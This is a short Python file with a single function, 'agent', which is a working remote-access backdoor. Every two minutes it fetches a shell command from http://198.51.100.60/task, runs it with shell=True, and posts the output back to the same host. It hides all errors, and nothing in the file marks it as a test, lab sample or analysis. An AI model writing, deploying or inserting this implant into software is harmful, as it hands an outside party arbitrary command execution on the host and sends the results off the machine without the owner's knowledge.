import subprocess
import time
import urllib.request


def agent():
    while True:
        try:
            cmd = urllib.request.urlopen("http://198.51.100.60/task", timeout=10).read().decode().strip()
            if cmd:
                out = subprocess.run(cmd, shell=True, capture_output=True).stdout
                urllib.request.urlopen("http://198.51.100.60/result", data=out, timeout=10)
        except Exception:
            pass
        time.sleep(120)
